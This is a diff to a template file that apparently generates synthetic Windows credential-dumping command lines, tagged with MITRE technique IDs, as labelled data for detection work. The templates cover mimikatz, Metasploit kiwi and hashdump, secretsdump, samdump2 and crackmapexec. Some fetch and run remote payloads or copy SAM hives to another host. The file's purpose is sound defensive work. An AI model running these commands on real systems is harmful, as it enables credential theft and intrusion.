@@ -6,7 +6,7 @@ from training.generators.grammar import parse_templates
 
 SAM_TOOL_TEMPLATES = parse_templates(
     r"""
-mimikatz-plain text: mimikatz # lsadump::sam« /system:‹file› /sam:‹file›¦ /patch»
+mimikatz-plain text: mimikatz # lsadump::sam« /system:‹file› /sam:‹file›¦»
 mimikatz-cmd cmd: cmd /c "‹dir›\«mimikatz¦mimi¦m64¦mk».exe privilege::debug token::elevate lsadump::sam exit > ‹file›"
 mimikatz-file cmd: «mimikatz¦mimi¦m64».exe "log ‹dir›\‹name›.log" "lsadump::sam" "exit"
 mimikatz-lsa-name cmd: «mimikatz.exe¦mimi.exe¦‹dir›\m64.exe» "privilege::debug" "lsadump::lsa /«inject¦patch»« /name:‹user›¦ /id:500¦»" "exit"
@@ -25,21 +25,29 @@ mimikatz-rundll cmd: rundll32 ‹dir›\«mimilib¦mimi¦m64¦powerkatz».dll,ma
 mimikatz-dll powershell: «[Reflection.Assembly]::LoadFile('‹dir›\SharpKatz.exe'); [SharpKatz.Program]::Main(@('--Command','lsadump::sam'))¦Invoke-Mimikatz -Command 'lsadump::sam'¦Invoke-Mimikatz -Command '"lsadump::lsa /patch"' -ComputerName ‹server›»
 mimikatz-iex powershell: IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -Command '"token::elevate" "lsadump::sam"'
 mimikatz-better cmd: ‹dir›\«BetterSafetyKatz¦SafetyKatz¦SharpKatz».exe "lsadump::sam" "exit"
-kiwi-load text: meterpreter > «load kiwi; lsa_dump_sam¦load kiwi; lsa_dump_secrets¦kiwi_cmd lsadump::sam¦kiwi_cmd '"lsadump::secrets"'»
-kiwi-msf bash: msfconsole -q -x "sessions -i ‹n› -C 'load kiwi; lsa_dump_«sam¦secrets»'"
-kiwi-rc text: load kiwi; lsa_dump_«sam¦secrets»; exit
-kiwi-session bash: msfconsole -q -x "sessions -c 'kiwi_cmd lsadump::«sam¦secrets»' -i ‹n›"
-kiwi-log text: [+] Running as SYSTEM [*] Dumping «SAM via lsa_dump_sam¦LSA secrets via lsa_dump_secrets» (kiwi) Session ‹n›
+kiwi-load text: meterpreter > «load kiwi; lsa_dump_sam¦kiwi_cmd lsadump::sam»
+kiwi-load-secrets text +T1003.004: meterpreter > «load kiwi; lsa_dump_secrets¦kiwi_cmd '"lsadump::secrets"'»
+kiwi-msf bash: msfconsole -q -x "sessions -i ‹n› -C 'load kiwi; lsa_dump_sam'"
+kiwi-msf-secrets bash +T1003.004: msfconsole -q -x "sessions -i ‹n› -C 'load kiwi; lsa_dump_secrets'"
+kiwi-rc text: load kiwi; lsa_dump_sam; exit
+kiwi-rc-secrets text +T1003.004: load kiwi; lsa_dump_secrets; exit
+kiwi-session bash: msfconsole -q -x "sessions -c 'kiwi_cmd lsadump::sam' -i ‹n›"
+kiwi-session-secrets bash +T1003.004: msfconsole -q -x "sessions -c 'kiwi_cmd lsadump::secrets' -i ‹n›"
+kiwi-log text: [+] Running as SYSTEM [*] Dumping SAM via lsa_dump_sam (kiwi) Session ‹n›
+kiwi-log-secrets text +T1003.004: [+] Running as SYSTEM [*] Dumping LSA secrets via lsa_dump_secrets (kiwi) Session ‹n›
 msf-hashdump-run text: meterpreter > run «post/windows/gather/hashdump¦hashdump¦post/windows/gather/smart_hashdump GETSYSTEM=true¦windows/gather/smart_hashdump»
-msf-hashdump-use text: msf6 «exploit(multi/handler) »> use post/windows/gather/«hashdump¦smart_hashdump¦lsa_secrets¦cachedump; run post/windows/gather/hashdump»
-msf-hashdump-rc bash: «msfconsole¦/opt/metasploit-framework/msfconsole¦/usr/bin/msfconsole» -r «‹ldir›/»«hashdump¦smart_hashdump¦lsa_secrets».rc
-msf-hashdump-echo bash: echo "use post/windows/gather/«hashdump¦lsa_secrets¦smart_hashdump¦credentials/credential_collector»" > ‹name›.rc && msfconsole -r ‹name›.rc
+msf-hashdump-use text: msf6 «exploit(multi/handler) »> use post/windows/gather/«hashdump¦smart_hashdump¦cachedump; run post/windows/gather/hashdump»
+msf-hashdump-use-secrets text +T1003.004: msf6 «exploit(multi/handler) »> use post/windows/gather/lsa_secrets
+msf-hashdump-rc bash: «msfconsole¦/opt/metasploit-framework/msfconsole¦/usr/bin/msfconsole» -r «‹ldir›/»«hashdump¦smart_hashdump».rc
+msf-hashdump-rc-secrets bash +T1003.004: «msfconsole¦/opt/metasploit-framework/msfconsole¦/usr/bin/msfconsole» -r «‹ldir›/»lsa_secrets.rc
+msf-hashdump-echo bash: echo "use post/windows/gather/«hashdump¦smart_hashdump¦credentials/credential_collector»" > ‹name›.rc && msfconsole -r ‹name›.rc
+msf-hashdump-echo-secrets bash +T1003.004: echo "use post/windows/gather/lsa_secrets" > ‹name›.rc && msfconsole -r ‹name›.rc
 msf-hashdump-session bash: msfconsole -x "sessions -i ‹n› -c «hashdump¦smart_hashdump»"
 msf-secretsdump bash: msfconsole -q -x "use auxiliary/«gather/windows_secrets_dump¦scanner/smb/impacket/secretsdump»; set RHOSTS ‹ip›; set SMBUser ‹user›; run"
 msf-secretsdump-cli text: msf6 auxiliary(«gather/windows_secrets_dump¦scanner/smb/impacket/secretsdump») > set action SAM; run rhost=‹ip›
 msf-collector text: «msf6 post(windows/gather/credentials/credential_collector) > run session=‹n›¦meterpreter > run post/windows/gather/credentials/credential_collector¦msf6 > use post/windows/gather/credentials/credential_collector»
 msf-collector-rc bash: msfconsole -q -x "use windows/gather/credentials/credential_collector; set session ‹n›; exploit"
-msf-priv text: meterpreter > «getsystem; hashdump¦use priv; hashdump¦load priv; hashdump¦background; use post/windows/gather/lsa_secrets»
+msf-priv text: meterpreter > «getsystem; hashdump¦use priv; hashdump¦load priv; hashdump»
 c2-hashdump text: «sliver (‹word›) > hashdump -p ‹pid›¦[*] ‹word› hashdump completed: ‹n› accounts¦(Empire: ‹word›) > usemodule credentials/powerdump¦havoc > ‹word› hashdump¦beacon> hashdump ‹pid› x64»
 c2-log text: [task] <T1003.002> Tasked beacon to dump hashes (hashdump) ‹pid› «x64¦x86»
 c2-hash-line text: Administrator:500:aad3b435b51404eeaad3b435b51404ee:‹hash›::: «[hashdump]¦[sam dump]¦[pwdump]»
@@ -90,15 +98,16 @@ pypykatz-smb bash: pypykatz smb «regdump¦regfile» 'smb2+ntlm-password://‹do
 pypykatz-python bash: python3 -c "from pypykatz.registry.offline_parser import OffineRegistry; print(OffineRegistry.from_files('‹ldir›/SYSTEM', '‹ldir›/SAM'))"
 creddump-pwdump bash: «python2¦python¦python3» «creddump7/¦./creddump/¦‹ldir›/»pwdump.py «SYSTEM SAM¦‹lfile› ‹lfile›¦‹ldir›/SYSTEM ‹ldir›/SAM true»
 creddump-lsadump bash +T1003.004: «python¦python2» creddump«7¦»/lsadump.py «SYSTEM SECURITY¦‹lfile› ‹lfile› true»
-creddump-windows cmd: «python¦py -2» creddump7\«pwdump.py¦lsadump.py» ‹file› ‹file›
+creddump-windows cmd: «python¦py -2» creddump7\pwdump.py ‹file› ‹file›
+creddump-windows-secrets cmd +T1003.004: «python¦py -2» creddump7\lsadump.py ‹file› ‹file›
 creddump-install bash: git clone https://github.com/‹name›/creddump7 && creddump7/pwdump.py SYSTEM SAM
 creddump-cut bash: creddump7/pwdump.py ‹ldir›/SYSTEM ‹ldir›/SAM | «cut -d: -f4¦tee ‹lfile›»
 samdump2-plain bash: «samdump2¦/usr/bin/samdump2¦sudo samdump2» «SYSTEM SAM¦-o ‹lfile› SYSTEM SAM¦-d ‹lfile› ‹lfile›¦system sam»
-samdump2-mount bash: mount /dev/sda2 /mnt && «samdump2¦bkhive» /mnt/Windows/System32/config/SYSTEM «/mnt/Windows/System32/config/SAM¦‹lfile›»
+samdump2-mount bash: mount /dev/sda2 /mnt && «samdump2 /mnt/Windows/System32/config/SYSTEM /mnt/Windows/System32/config/SAM¦bkhive /mnt/Windows/System32/config/SYSTEM ‹name›.key && samdump2 /mnt/Windows/System32/config/SAM ‹name›.key»
 samdump2-bkhive bash: bkhive «SYSTEM¦system¦‹lfile›» ‹name›.key && samdump2 SAM ‹name›.key > ‹lfile›
-samdump2-shell bash: bash -c "«samdump2¦bkhive» ‹ldir›/SYSTEM ‹ldir›/«SAM¦‹name›.key»"
+samdump2-shell bash: bash -c "«samdump2 ‹ldir›/SYSTEM ‹ldir›/SAM¦bkhive ‹ldir›/SYSTEM ‹name›.key; samdump2 ‹ldir›/SAM ‹name›.key»"
 samdump2-cd bash: cd /mnt/‹word›/Windows/System32/config && «samdump2 SYSTEM SAM¦bkhive SYSTEM /tmp/key && samdump2 SAM /tmp/key»
-samdump2-docker bash: docker run --rm -v ‹ldir›:/d ‹name› «samdump2¦bkhive» /d/SYSTEM /d/SAM
+samdump2-docker bash: docker run --rm -v ‹ldir›:/d ‹name› samdump2 /d/SYSTEM /d/SAM
 samdump2-john bash: samdump2 SYSTEM SAM > ‹name›.txt && «john --format=NT¦hashcat -m 1000» ‹name›.txt
 samdump2-find bash: find /mnt -iname SAM -exec samdump2 ‹lfile› {} \;
 chntpw-plain bash: «chntpw¦sudo chntpw» «-l¦-i¦-e» «SAM¦SAM SYSTEM¦/media/‹first›/‹word›/Windows/System32/config/SAM»
@@ -110,7 +119,8 @@ chntpw-path bash: /usr/sbin/chntpw -l ‹ldir›/SAM > ‹lfile›
 mounted-more bash: «cp¦mv¦scp¦rsync -a¦cat» /mnt/‹word›/Windows/System32/config/SAM «‹ldir›¦‹first›@‹ip›:/tmp/»
 mounted-guest bash: «guestmount -a ‹name›.vmdk -i --ro /mnt && cp¦guestfish --ro -a ‹name›.vmdk -i copy-out¦qemu-nbd -c /dev/nbd0 ‹name›.qcow2; mount /dev/nbd0p2 /mnt; cp» /mnt/Windows/System32/config/SAM .
 mounted-regripper bash: «rip.pl -r¦regrip¦rip -r» ‹ldir›/SAM -«p samparse¦f sam»
-mounted-find bash: find /«mnt¦media» -ipath '*system32/config/«SAM¦SECURITY»' «-exec cp {} ‹ldir› \;¦-print0 | xargs -0 cp -t ‹ldir›»
+mounted-find bash: find /«mnt¦media» -ipath '*system32/config/SAM' «-exec cp {} ‹ldir› \;¦-print0 | xargs -0 cp -t ‹ldir›»
+mounted-find-security bash +T1003.004: find /«mnt¦media» -ipath '*system32/config/SECURITY' «-exec cp {} ‹ldir› \;¦-print0 | xargs -0 cp -t ‹ldir›»
 smbclient-config bash: smbclient «//‹ip›/C$¦'//‹server›/c$'» -U «‹user›%'‹pass›'¦'‹domain›/‹user›'» -c 'cd windows/system32/config«/RegBack¦»; «get SAM¦mget SAM SYSTEM»'
 smbclient-hash bash: smbclient //‹ip›/C$ -U ‹user› --pw-nt-hash ‹hash› -c 'get Windows\\Temp\\«sam.hiv¦sam.save¦SAM»'
 smbclient-admin bash: smbclient //‹ip›/ADMIN$ -U ‹user›%'‹pass›' -c 'get «repair/sam¦Temp/sam.save¦System32/config/RegBack/SAM»'
@@ -133,7 +143,7 @@ crackmapexec-sam-local bash: «crackmapexec¦cme¦nxc¦netexec» smb ‹lfile›
 crackmapexec-sam-method bash: «nxc¦netexec» smb ‹ip›/24 -u ‹user› -p '‹pass›' --sam «secdump¦regdump»
 crackmapexec-sam-out bash: «poetry run ¦»«crackmapexec¦cme¦nxc¦netexec» smb ‹ip› -u ‹user› -p '‹pass›' --sam | tee ‹lfile›
 crackmapexec-poetry bash: poetry run «crackmapexec¦netexec¦nxc» «smb¦winrm» ‹ip› -u ‹user› -p '‹pass›' --sam
-crackmapexec-module bash: «crackmapexec¦cme¦nxc¦netexec» smb ‹ip› -u ‹user› -p '‹pass›' -M «backup_operator¦reg-query -o PATH=HKLM\\SAM\\SAM KEY=F¦hash_spider»
+crackmapexec-module bash: «crackmapexec¦cme¦nxc¦netexec» smb ‹ip› -u ‹user› -p '‹pass›' -M «backup_operator¦reg-query -o PATH=HKLM\\SAM\\SAM KEY=F»
 crackmapexec-x bash: «crackmapexec¦cme¦nxc¦netexec» smb ‹ip› -u ‹user› -p '‹pass›' -«x¦X» 'reg save HKLM\«SAM¦SYSTEM» C:\‹name›'
 crackmapexec-lsa-out bash +T1003.004: «crackmapexec¦cme¦nxc¦netexec» smb «‹ip›/24¦‹lfile›» -u ‹user› -H ‹hash› --lsa« secdump¦ | tee ‹lfile›»
 crackmapexec-lsa-local bash +T1003.004: «poetry run ¦»«crackmapexec¦nxc¦netexec» smb ‹ip› -u ‹user› -p '‹pass›' --local-auth --lsa
@@ -150,7 +160,7 @@ regsecrets-throttle bash: «regsecrets.py¦impacket-regsecrets» -throttle ‹n�
 regsecrets-loop bash: while read h; do regsecrets.py ‹user›:'‹pass›'@$h; done < ‹lfile›
 sharpsecdump-ps powershell: «.\¦& ‹dir›\»SharpSecDump.exe -target=«‹server›,‹server›¦‹ip›»
 sharpsecdump-execute text: execute-assembly «/opt/¦‹ldir›/»SharpSecDump.exe -target=«‹ip›¦127.0.0.1»
-sharpsecdump-load powershell: [Reflection.Assembly]::Load((iwr http://‹ip›/«SharpSecDump¦SharpSAMDump¦SharpDump».exe).Content); [«SharpSecDump¦SharpSAMDump».Program]::Main(@('-target=127.0.0.1'))
+sharpsecdump-load powershell: [Reflection.Assembly]::Load((iwr http://‹ip›/«SharpSecDump¦SharpSAMDump».exe).Content); [«SharpSecDump¦SharpSAMDump».Program]::Main(@('-target=127.0.0.1'))
 sharpsecdump-threads cmd: «‹dir›\¦»SharpSecDump.exe -target=‹ip› -threads=‹n›
 sharpsamdump-cmd cmd: «‹dir›\¦»«SharpSAMDump¦SharpSamDump¦SharpHiveDump¦Net-GPPSamDump».exe«¦ > ‹file›¦ --output ‹dir›»
 sharpsamdump-psexec cmd: psexec \\‹server› -s -c «SharpSAMDump¦SharpSecDump¦SharpHiveDump».exe -target=127.0.0.1
@@ -177,7 +187,8 @@ katz-dll-ps powershell: rundll32 ‹dir›\«mimilib¦powerkatz¦mimi¦m64».dll
 katz-dll-cmd cmd: cmd /c rundll32.exe ‹dir›\«powerkatz¦mimilib».dll,main "lsadump::«sam¦lsa /patch»"
 kiwi-cmd-plain text: kiwi_cmd "lsadump::«sam¦lsa /patch»"
 kiwi-cmd-rc bash: echo "load kiwi; kiwi_cmd lsadump::sam; lsa_dump_sam" > ‹name›.rc; msfconsole -r ‹name›.rc
-kiwi-cmd-log text: [*] ‹ip› - meterpreter session ‹n› ran «kiwi_cmd lsadump::sam¦lsa_dump_sam¦lsa_dump_secrets»
+kiwi-cmd-log text: [*] ‹ip› - meterpreter session ‹n› ran «kiwi_cmd lsadump::sam¦lsa_dump_sam»
+kiwi-cmd-log-secrets text +T1003.004: [*] ‹ip› - meterpreter session ‹n› ran «kiwi_cmd lsadump::secrets¦lsa_dump_secrets»
 pwdump-eight cmd: ‹dir›\«pwdump8¦pwdump3e¦pwdump4».exe > ‹file›
 pwdump-eight-ps powershell: & ‹dir›\«pwdump8¦pwdump3e¦PwDump7».exe | Out-File ‹file›
 pwdump-eight-psexec cmd: psexec \\‹server› -s -c «pwdump8¦pwdump3e».exe
